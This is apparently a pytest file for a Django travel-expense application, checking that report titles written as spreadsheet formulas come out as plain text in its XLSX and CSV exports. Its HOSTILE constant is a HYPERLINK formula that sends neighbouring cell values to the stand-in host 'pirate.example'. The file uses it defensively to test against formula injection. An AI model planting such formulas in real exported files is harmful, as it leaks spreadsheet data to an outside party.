"""The expense reports list exports a title typed as a formula as text: an employee cannot
plant a live `=HYPERLINK(…)` in HR's spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from effectif.travel.models import ExpenseReport
from effectif.travel.services.expenses import report_submit
from effectif.travel.tests.builders import meal, report_with

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://pirate.example/?d="&C2&D2,"Justificatif")'


def test_a_hostile_title_is_text_in_both_exports(
    world, employee_user, hr_manager, client_for
) -> None:
    report = report_with(world.member, employee_user, meal("32.00"))
    ExpenseReport.objects.filter(pk=report.pk).update(title=HOSTILE)
    report_submit(report=ExpenseReport.objects.get(pk=report.pk), by=employee_user)
    client = client_for(hr_manager)
    xlsx = client.get(reverse("travel:reports"), {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    title = next(c for c in cells if c.value == HOSTILE)
    assert title.data_type == "s"
    amount = sheet.cell(row=title.row, column=11)
    assert (amount.value, amount.data_type) == (32, "n")  # amounts stay numbers
    response = client.get(reverse("travel:reports"), {"export": "csv"})
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert "'" + HOSTILE in next(row for row in rows if row[0] == report.reference)
